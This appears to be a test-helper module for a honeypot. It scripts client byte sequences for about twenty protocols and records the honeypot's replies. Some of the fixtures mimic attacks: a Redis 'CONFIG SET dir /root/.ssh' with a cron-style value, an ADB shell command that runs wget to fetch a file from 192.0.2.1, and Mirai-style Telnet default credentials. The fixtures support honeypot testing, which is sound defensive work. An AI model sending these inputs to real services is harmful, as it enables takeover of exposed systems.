"""What clients of each protocol say, byte for byte, and a way to have it answered."""

from __future__ import annotations

import base64
import struct
from collections.abc import Sequence

from darkflow.honeypot.protocols.adb import Adb
from darkflow.honeypot.protocols.caches import Memcached, Redis
from darkflow.honeypot.protocols.databases import MySql, Postgres, SqlServer
from darkflow.honeypot.protocols.ftp import Ftp
from darkflow.honeypot.protocols.http import Http
from darkflow.honeypot.protocols.mailbox import Imap, Pop3
from darkflow.honeypot.protocols.mqtt import Mqtt
from darkflow.honeypot.protocols.protocol import Context, Protocol, Reply
from darkflow.honeypot.protocols.rdp import Rdp
from darkflow.honeypot.protocols.sip import Rtsp, Sip
from darkflow.honeypot.protocols.smb import Smb
from darkflow.honeypot.protocols.smtp import Smtp
from darkflow.honeypot.protocols.socks import Socks
from darkflow.honeypot.protocols.ssh import Ssh, kexinit
from darkflow.honeypot.protocols.telnet import Telnet
from darkflow.honeypot.protocols.vnc import Vnc

NONCE = bytes(range(0x40, 0x60))
CONTEXT = Context("203.0.113.9", 80, "srv-0001", "darkmark", NONCE, True, 1_700_000_000)


def adb_message(command: bytes, first: int, second: int, payload: bytes = b"") -> bytes:
    """A message of the Android debug bridge."""
    magic = int.from_bytes(command, "little") ^ 0xFFFFFFFF
    return struct.pack("<4sIIIII", command, first, second, len(payload), 0, magic) + payload


def ssh_packet(payload: bytes) -> bytes:
    """An unencrypted packet with 4 bytes of padding."""
    return struct.pack("!IB", len(payload) + 5, 4) + payload + bytes(4)


def mysql_login(user: bytes, database: bytes = b"") -> bytes:
    """HandshakeResponse41 with a hash of 20 bytes."""
    flags = 0x200 | 0x8000 | 0x80000 | (8 if database else 0)
    body = struct.pack("<IIB23x", flags, 1 << 24, 33) + user + b"\0\x14" + bytes(range(20))
    body += database + b"\0" if database else b""
    body += b"mysql_native_password\0"
    return len(body).to_bytes(3, "little") + b"\x01" + body


def postgres_start(**values: str) -> bytes:
    """A start-up message of version 3."""
    body = b"\x00\x03\x00\x00"
    body += b"".join(f"{key}\0{value}\0".encode() for key, value in values.items()) + b"\0"
    return struct.pack("!I", len(body) + 4) + body


def tds_login(client: str, user: str, password: str) -> bytes:
    """A Login7 packet."""
    texts = [client, user, password, "sqlcmd", "server"]
    wide = [text.encode("utf-16-le") for text in texts]
    wide[2] = bytes(((byte << 4 | byte >> 4) & 0xFF) ^ 0xA5 for byte in wide[2])
    table, at = b"", 94
    for text, data in zip(texts, wide, strict=True):
        table += struct.pack("<HH", at, len(text))
        at += len(data)
    body = (bytes(36) + table).ljust(94, b"\0") + b"".join(wide)
    return struct.pack("!BBHHBB", 0x10, 1, len(body) + 8, 0, 1, 0) + body


def smb1(command: int, words: bytes, data: bytes, flags2: int = 0xC001) -> bytes:
    """A message of SMB 1 behind NetBIOS's length."""
    head = struct.pack("<4sBIBHH8sHHHHH", b"\xffSMB", command, 0, 0x18, flags2, 0, bytes(8), 0, 0,
                       0x4B, 0, 1)  # fmt: skip
    body = head + bytes((len(words) // 2,)) + words + struct.pack("<H", len(data)) + data
    return len(body).to_bytes(4, "big") + body


def smb2(command: int, number: int, body: bytes) -> bytes:
    """A message of SMB 2 behind NetBIOS's length."""
    head = struct.pack("<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 0, 0, command, 1, 0, 0, number, 0, 0,
                       0, bytes(16))  # fmt: skip
    return (len(head) + len(body)).to_bytes(4, "big") + head + body


def ntlm_negotiate() -> bytes:
    """NTLM's first message."""
    return b"NTLMSSP\0" + struct.pack("<II", 1, 0xA2088207) + bytes(16)


def ntlm_authenticate(user: str, domain: str, client: str) -> bytes:
    """NTLM's third message, with a response of 24 bytes."""
    texts = [text.encode("utf-16-le") for text in (domain, user, client)]
    at, places = 64, b""
    for data in (bytes(24), bytes(range(24)), *texts, b""):
        places += struct.pack("<HHI", len(data), len(data), at)
        at += len(data)
    body = bytes(24) + bytes(range(24)) + b"".join(texts)
    return b"NTLMSSP\0" + struct.pack("<I", 3) + places + struct.pack("<I", 0xA2888205) + body


def smb2_setup(number: int, token: bytes) -> bytes:
    """SESSION_SETUP with a token."""
    return smb2(1, number, struct.pack("<HBBIIHHQ", 25, 0, 1, 0, 0, 88, len(token), 0) + token)


def rdp_request(cookie: bytes, protocols: int) -> bytes:
    """X.224 connection request with cookie and RDP_NEG_REQ."""
    rest = b"Cookie: mstshash=" + cookie + b"\r\n" + struct.pack("<BBHI", 1, 0, 8, protocols)
    return struct.pack("!BBHBBHHB", 3, 0, 11 + len(rest), 6 + len(rest), 0xE0, 0, 0, 0) + rest


def ts_request(token: bytes) -> bytes:
    """CredSSP's message with a token in it."""
    inner = b"\xa0\x03\x02\x01\x06\xa1\x82" + struct.pack("!H", len(token)) + token
    return b"\x30\x82" + struct.pack("!H", len(inner)) + inner


def mqtt_packet(first: int, body: bytes) -> bytes:
    """A packet of less than 128 bytes."""
    return bytes((first, len(body))) + body


def mqtt_text(text: bytes) -> bytes:
    """A string with its length."""
    return struct.pack("!H", len(text)) + text


_PLAIN = base64.b64encode(b"\0root\0secret") + b"\r\n"
_SIP = (
    b"%s sip:100@203.0.113.9 SIP/2.0\r\nVia: SIP/2.0/TCP nm;branch=foo\r\n"
    b"From: <sip:nm@nm>;tag=root\r\nTo: <sip:nm2@nm2>\r\nCall-ID: 50000\r\nCSeq: 42 %s\r\n"
    b"User-Agent: friendly-scanner\r\nContent-Length: 0\r\n\r\n"
)

# Protocol -> what a client says, message by message.
TALKS: dict[type[Protocol], list[bytes]] = {
    Http: [
        b"POST /login HTTP/1.1\r\nHost: example.net\r\nUser-Agent: curl/8\r\nContent-Length: 7\r\n"
        b"Authorization: Basic cm9vdDpzZWNyZXQ=\r\n\r\nuser=me",
        b"GET / HTTP/1.1\r\nHost: example.net\r\n\r\n",
        b"HEAD /none HTTP/1.0\r\n\r\n",
    ],
    Smtp: [
        b"EHLO client.example\r\n", b"AUTH PLAIN " + _PLAIN, b"AUTH LOGIN\r\n", b"cm9vdA==\r\n",
        b"dG9vcg==\r\n", b"MAIL FROM:<a@example>\r\n", b"RCPT TO:<b@example>\r\n", b"DATA\r\n",
        b"Subject: x\r\n\r\nbody\r\n.\r\n", b"VRFY root\r\n", b"QUIT\r\n",
    ],
    Ftp: [
        b"USER root\r\n", b"PASS secret\r\n", b"SYST\r\n", b"PWD\r\n", b"USER anonymous\r\n",
        b"PASS guest@\r\n", b"PWD\r\n", b"PORT 192,0,2,1,0,22\r\n", b"PASV\r\n", b"LIST\r\n",
        b"QUIT\r\n",
    ],
    Telnet: [
        b"\xff\xfb\x1f\xff\xfa\x1f\x00\x50\x00\x18\xff\xf0\xff\xfc\x01", b"root\r\n", b"xc3511\r\n",
        b"admin\r\0", b"ad\xff\xffmin\n", b"enable\r\nsystem\r\n",
    ],
    Pop3: [
        b"CAPA\r\n", b"USER root\r\n", b"PASS secret\r\n", b"AUTH PLAIN\r\n", _PLAIN, b"XYZ\r\n",
        b"QUIT\r\n",
    ],
    Imap: [
        b"a1 CAPABILITY\r\n", b'a2 LOGIN root "se cret"\r\n', b"a3 AUTHENTICATE PLAIN\r\n", _PLAIN,
        b'a4 ID ("name" "x")\r\n', b"a5 LOGOUT\r\n",
    ],
    Redis: [
        b"*1\r\n$4\r\nINFO\r\n", b"*2\r\n$4\r\nAUTH\r\n$6\r\nsecret\r\n", b"PING\r\n",
        b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$10\r\n/root/.ssh\r\n",
        b"*3\r\n$3\r\nSET\r\n$1\r\nx\r\n$9\r\n\n\n* * * *\n\r\n", b"*1\r\n$4\r\nQUIT\r\n",
    ],
    Memcached: [b"version\r\n", b"set a 0 0 3\r\nabc\r\n", b"get a\r\n", b"stats\r\n", b"quit\r\n"],
    Ssh: [
        b"SSH-2.0-libssh_0.9.6\r\n", ssh_packet(kexinit(bytes(16))),
        ssh_packet(b"\x1e" + bytes(36)),
    ],
    Rdp: [
        rdp_request(b"hello", 3), ts_request(ntlm_negotiate()),
        ts_request(ntlm_authenticate("root", "WORK", "KALI")),
    ],
    Vnc: [b"RFB 003.008\n", b"\x02", bytes(range(16))],
    Socks: [
        b"\x05\x01\x02", b"\x01\x04root\x06secret", b"\x05\x01\x00\x03\x0aexample.eu\x00\x50",
        b"GET / HTTP/1.0\r\n\r\n",
    ],
    Mqtt: [
        mqtt_packet(0x10, mqtt_text(b"MQTT") + b"\x04\xc2\x00\x3c" + mqtt_text(b"id1")
                    + mqtt_text(b"root") + mqtt_text(b"secret")),
        mqtt_packet(0x82, b"\x00\x07" + mqtt_text(b"#") + b"\x01"), b"\xc0\x00",
        mqtt_packet(0x32, mqtt_text(b"cmd") + b"\x00\x08on"), b"\xe0\x00",
    ],
    Adb: [
        adb_message(b"CNXN", 0x01000000, 4096, b"host::features=x\0"),
        adb_message(b"OPEN", 5, 0, b"shell:cd /data; wget http://192.0.2.1/x\0"),
        adb_message(b"OPEN", 6, 0, b"sync:\0"), adb_message(b"WRTE", 6, 1, b"SEND"),
    ],
    Sip: [_SIP % (b"OPTIONS", b"OPTIONS"), _SIP % (b"REGISTER", b"REGISTER")],
    Rtsp: [
        b"OPTIONS rtsp://203.0.113.9/ RTSP/1.0\r\nCSeq: 1\r\n\r\n",
        b"DESCRIBE rtsp://203.0.113.9/ RTSP/1.0\r\nCSeq: 2\r\nAuthorization: Basic cm9vdDpzZWNyZXQ="
        b"\r\n\r\n",
    ],
    MySql: [mysql_login(b"root", b"mysql")],
    Postgres: [
        struct.pack("!II", 8, 80877104), postgres_start(user="root", database="postgres"),
        b"p" + struct.pack("!I", 11) + b"secret\0",
    ],
    SqlServer: [
        bytes.fromhex("1201001a00000000" "00000b0006010011000" "1ff") + bytes(7),
        tds_login("KALI", "sa", "secret"),
    ],
    Smb: [
        smb1(0x72, b"", b"\x02NT LM 0.12\0"),
        smb1(0x73, bytes(14) + struct.pack("<HH", 1, 0) + bytes(8),
             b"\0" + "root\0WORK\0Unix\0".encode("utf-16-le")),
        smb1(0x73, bytes(14) + struct.pack("<HH", 1, 0) + bytes(8),
             b"\0" + "\0WORK\0Unix\0".encode("utf-16-le")),
        smb1(0x75, bytes(6) + b"\x01\0", b"\0" + "\\\\203.0.113.9\\IPC$\0".encode("utf-16-le")),
        smb1(0x25, b"", b""),
        smb2(0, 0, struct.pack("<HHHHI16sQ", 36, 2, 1, 0, 0, bytes(16), 0) + b"\x02\x02\x10\x02"),
        smb2_setup(1, ntlm_negotiate()),
        smb2_setup(2, ntlm_authenticate("root", "WORK", "KALI")),
        smb2(3, 3, bytes(9)),
    ],
}  # fmt: skip


def answers(machine: Protocol, messages: Sequence[bytes]) -> list[Reply]:
    """The machine's replies, up to the one that ends the talk."""
    replies = []
    for message in messages:
        replies.append(machine.received(message))
        if replies[-1].close or replies[-1].tls:
            break
    return replies


def said(kind: type[Protocol], *messages: bytes, context: Context = CONTEXT) -> list[bytes]:
    """What a new machine says to these messages."""
    return [reply.data for reply in answers(kind(context), messages)]


def learnt(kind: type[Protocol], context: Context = CONTEXT) -> dict[str, object]:
    """The fields after the protocol's usual talk."""
    machine = kind(context)
    answers(machine, TALKS[kind])
    return dict(machine.fields)
